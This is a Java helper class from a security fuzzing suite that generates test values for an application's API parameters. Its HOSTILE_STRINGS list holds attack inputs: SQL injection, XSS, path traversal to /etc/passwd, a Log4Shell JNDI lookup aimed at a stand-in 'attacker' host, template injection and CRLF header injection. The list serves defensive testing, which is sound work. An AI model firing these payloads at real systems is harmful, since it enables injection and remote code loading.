package kz.tirkeu.security.fuzz;

import java.util.List;
import java.util.Random;
import tools.jackson.databind.JsonNode;

/**
 * The values a parameter or field gets: plausible ones (well-formed but naming nothing that exists, so a
 * "valid" request cannot act on another test's application), boundaries, and what an attacker sends.
 */
final class HostileValues {

    static final List<String> HOSTILE_STRINGS = List.of(
            "", " ", "A".repeat(10_000), "Ä漢字🚗Қазақстан", "\u0000", "a\u0000b", "\u0001\u0007\u001b[31m\u007f",
            "' OR 1=1 --", "'; drop table application; --", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%00", "%", "${jndi:ldap://attacker/x}", "#{7*7}", "{{7*7}}", "\u202Egnp.exe",
            "\uFEFF", "\uD800", "\r\nX-Injected: 1", "null", "undefined", "-1", "0", "99999999999999999999999999", "1e309", "NaN",
            "true", "[]", "{}", "A-2026-000001' --", "кириллица", " 123456789012 ", "１２３４５６７８９０１２");

    static final List<Object> HOSTILE_NUMBERS = List.of(0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE, Long.MAX_VALUE, Long.MIN_VALUE,
            "9223372036854775808", "1e400", 1.5, -0.0, "abc", "", true, "0x10");

    private HostileValues() {}

    static String hostileString(Random random) {
        return HOSTILE_STRINGS.get(random.nextInt(HOSTILE_STRINGS.size()));
    }

    static Object hostileNumber(Random random) {
        return HOSTILE_NUMBERS.get(random.nextInt(HOSTILE_NUMBERS.size()));
    }

    /** A boundary: empty, one character, very long, leading zeros, the largest page. */
    static String boundaryString(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> "";
            case 1 -> "1";
            case 2 -> "9".repeat(12);
            case 3 -> "Z".repeat(255);
            case 4 -> "Z".repeat(256);
            default -> "0".repeat(17);
        };
    }

    /** A well-formed value chosen by the parameter's name, pointing at nothing that exists. */
    static String plausible(String name, JsonNode schema, Random random) {
        if (schema != null && schema.has("enum") && !schema.path("enum").isEmpty()) {
            return schema.path("enum").get(random.nextInt(schema.path("enum").size())).asString();
        }
        String format = schema == null ? "" : schema.path("format").asString("");
        String type = schema == null ? "string" : schema.path("type").asString("string");
        if ("uuid".equals(format) || name.toLowerCase().endsWith("id")) {
            return new java.util.UUID(random.nextLong(), random.nextLong()).toString();
        }
        if ("date-time".equals(format)) {
            return "2026-0" + (1 + random.nextInt(9)) + "-01T00:00:00Z";
        }
        if ("date".equals(format) || "from".equals(name) || "to".equals(name)) {
            return "2026-0" + (1 + random.nextInt(9)) + "-15";
        }
        if ("integer".equals(type) || "number".equals(type)) {
            return Integer.toString(random.nextInt(50));
        }
        if ("boolean".equals(type)) {
            return Boolean.toString(random.nextBoolean());
        }
        return switch (name.toLowerCase()) {
            case "iin", "bin", "buyeriin", "owneriin", "selleriin" -> "9" + String.format("%011d", Math.floorMod(random.nextLong(), 100_000_000_000L));
            case "vin" -> "XW8ZZZ" + String.format("%011d", Math.floorMod(random.nextLong(), 100_000_000_000L));
            case "number", "applicationnumber" -> "A-2026-9" + String.format("%05d", random.nextInt(100_000));
            case "psccode" -> random.nextBoolean() ? "ALM-01" : "AST-0" + random.nextInt(9);
            case "code" -> random.nextBoolean() ? "R" + random.nextInt(999) : String.format("%06d", random.nextInt(1_000_000));
            case "phone" -> "+7700" + String.format("%07d", random.nextInt(10_000_000));
            case "email" -> "fuzz" + random.nextInt(1000) + "@example.kz";
            case "plate" -> random.nextInt(999) + "ABC02";
            case "lang" -> List.of("ru", "kk", "en").get(random.nextInt(3));
            case "signature" -> java.util.Base64.getEncoder().encodeToString(("not a cms " + random.nextInt()).getBytes());
            default -> "fuzz" + random.nextInt(10_000);
        };
    }
}
